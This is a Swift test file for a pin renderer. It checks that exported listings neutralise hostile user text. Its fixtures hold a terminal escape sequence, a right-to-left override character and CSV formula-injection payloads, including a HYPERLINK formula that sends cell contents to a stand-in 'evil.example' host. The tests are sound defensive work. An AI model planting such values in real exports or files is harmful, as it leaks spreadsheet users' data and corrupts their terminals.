import Answers
import Foundation
import Posting
import ServerAPI
import TestSupport
import Testing

@Suite struct PinRendererTests {
  private static let ada = ShownPin {
    $0.id = "8ZExGR5uX8"
    $0.name = "Ada Lovelace"
    $0.place = "London"
    $0.placeLabel = "London, England"
    $0.link = "https://example.org/ada"
    $0.latitude = 51.50853
    $0.longitude = -0.12574
    $0.createdAt = "2026-03-11T02:48:18.321Z"
    $0.updatedAt = "2026-03-12T00:00:00.000Z"
    $0.distanceMeters = 0
    $0.isMine = true
  }
  /// What an old app may have sent, and what would harm a terminal, a table or a page.
  private static let hostile = ShownPin {
    $0.id = "a"
    $0.place = "東京, \"Tokyo\"\n\u{1B}[2J"
    $0.link = "wwww\u{202E}"
    $0.latitude = -0.5
    $0.longitude = 180
    $0.createdAt = "2026-03-11T02:48:18.321Z"
    $0.updatedAt = "2026-03-11T02:48:18.321Z"
    $0.distanceMeters = 12_345.678
  }

  static let listings: [(name: String, listing: PinListing)] = [
    (
      "newest",
      PinListing(
        pins: [ada, hostile].map { pin in
          var pin = pin
          pin.distanceMeters = nil
          return pin
        })
    ),
    ("near", PinListing(pins: [ada, hostile], searchedToMeters: 50_000)),
    ("everywhere", PinListing(pins: [ada], searchedToMeters: 20_015_115)),
    ("none", PinListing(pins: [])),
  ]

  @Test(arguments: AnswerFormat.allCases)
  func everyFormatIsAsRecorded(format: AnswerFormat) throws {
    for (name, listing) in Self.listings {
      var bytes: [UInt8] = []
      PinRenderer(format: format).append(listing, to: &bytes)
      try expectGolden(
        String(decoding: bytes, as: UTF8.self), named: "pins/\(name).\(format.rawValue)")
    }
  }

  /// A teacher opens the table in a spreadsheet, which would follow them.
  @Test(arguments: [
    "=HYPERLINK(\"https://evil.example?\"&A1)", "+1", "-1", "@SUM(1)", " =1", "\t=1",
  ])
  func userTextIsNeverAFormula(text: String) throws {
    var pin = Self.ada
    pin.name = text
    pin.place = text
    pin.link = text
    pin.latitude = -1
    pin.longitude = 1
    pin.distanceMeters = nil
    var bytes: [UInt8] = []
    PinRenderer(format: .csv).append(PinListing(pins: [pin]), to: &bytes)
    let row = try #require(String(decoding: bytes, as: UTF8.self).split(separator: "\n").last)
    let quoted = "'" + text.replacing("\"", with: "\"\"")
    #expect(row.components(separatedBy: quoted).count == 4, "\(row)")
    #expect(row.contains(",-1,1,"), "numbers stay numbers")
  }

  @Test func noFormatLetsControlCharactersThroughToATerminal() {
    var bytes: [UInt8] = []
    PinRenderer(format: .text).append(
      PinListing(pins: [Self.hostile], searchedToMeters: nil), to: &bytes)
    #expect(!bytes.contains(0x1B))
    #expect(bytes.filter { $0 == 0x0A }.count == 3)
  }
}
